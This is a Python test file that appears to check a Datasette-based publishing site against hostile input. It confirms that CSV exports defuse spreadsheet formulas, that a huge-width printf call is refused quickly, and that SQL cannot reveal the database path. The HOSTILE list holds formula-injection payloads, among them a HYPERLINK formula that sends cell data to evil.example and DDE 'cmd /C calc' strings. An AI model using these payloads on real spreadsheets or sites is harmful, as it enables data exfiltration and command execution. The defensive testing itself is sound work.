"""The public site against a hostile site owner and a hostile visitor (issue #17), through
a real ``serve`` (Datasette on 127.0.0.1): crawled titles that are spreadsheet formulas
come back defused from every CSV export, numbers stay numbers; printf with a huge width
is refused at once instead of outrunning the SQL time limit; SQL cannot read the
database's path."""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from test_publish import COUNCILS, add_page, err, start_run

from council_audit import publish
from council_audit.results.writer import ResultsDB

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  -2+3",
    "\n=1+1",
]
DB = "hostile"


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    path: Path = tmp_path_factory.mktemp("hostile") / f"{DB}.db"
    db = ResultsDB(path)
    db.upsert_councils(COUNCILS[:1])
    run = start_run(db, "2026-12-01T00:00:00+00:00", ["AVL"])
    for n, title in enumerate(HOSTILE):
        add_page(db, run, "AVL", f"/p{n}", [err("image-alt", "critical", f"#i{n}", title)],
                 title=title, depth=-n)  # fmt: skip
    db.end_run(run, "complete")
    db.close()
    with (
        publish.start_server(path) as url,
        httpx.Client(base_url=url, trust_env=False, timeout=30) as client,
    ):
        yield client


def csv_rows(client: httpx.Client, path: str, **params: str) -> list[dict[str, str]]:
    response = client.get(path, params=params)
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


def assert_defused(cells: list[str]) -> None:
    assert sorted(cells) == sorted("'" + t for t in HOSTILE)


@pytest.mark.parametrize("params", [{}, {"_stream": "on"}, {"_size": "2"}])
def test_table_csv_exports_are_defused(client: httpx.Client, params: dict) -> None:
    pages = csv_rows(client, f"/{DB}/pages.csv", **params)
    if params.get("_size"):
        assert len(pages) == 2  # a page of rows: still defused
        assert all(p["title"].startswith("'") for p in pages)
    else:
        assert_defused([p["title"] for p in pages])
        # numbers stay numbers: negative depths are not given an apostrophe
        assert sorted(int(p["depth"]) for p in pages) == [-n for n in range(6, -1, -1)]
    findings = csv_rows(client, f"/{DB}/findings.csv", **params)
    assert all(f["snippet"].startswith("'") for f in findings) and findings


def test_query_and_canned_query_csv_are_defused(client: httpx.Client) -> None:
    rows = csv_rows(client, f"/{DB}.csv", sql="select title, -3 as minus from pages")
    assert_defused([r["title"] for r in rows])
    assert {r["minus"] for r in rows} == {"-3"}
    canned = csv_rows(client, f"/{DB}/council_pages.csv", council="AVL")
    assert canned and all(not r["title"].startswith(("=", "+", "@", "\t")) for r in canned)


def test_json_is_left_as_it_is(client: httpx.Client) -> None:
    rows = client.get(f"/{DB}/pages.json", params={"_shape": "array"}).json()
    assert sorted(r["title"] for r in rows) == sorted(HOSTILE)


def test_printf_with_a_huge_width_is_refused_at_once(client: httpx.Client) -> None:
    started = time.monotonic()
    response = client.get(
        f"/{DB}.json", params={"sql": "select length(printf('%.*c',2000000000,'x'))"}
    )
    assert time.monotonic() - started < 3  # it took 8-30 s before, over the 3 s limit
    assert response.status_code == 400 and "error" in response.json()
    for sql in ("select format('%2000000000c', 'x')", "select printf('%.*c', 20000000, 'x')"):
        assert client.get(f"/{DB}.json", params={"sql": sql}).status_code == 400
    ok = client.get(f"/{DB}.json", params={"sql": "select printf('%05.1f|%s', 3.14159, 'a') as v",
                                           "_shape": "array"})  # fmt: skip
    assert ok.json() == [{"v": "003.1|a"}]


def test_sql_cannot_read_the_databases_path(client: httpx.Client) -> None:
    rows = client.get(
        f"/{DB}.json", params={"sql": "select * from pragma_database_list", "_shape": "array"}
    ).json()
    assert rows and all(r["file"] is None for r in rows)
    assert "hostile.db" not in client.get(f"/{DB}.csv", params={
        "sql": "select file from pragma_database_list"}).text  # fmt: skip
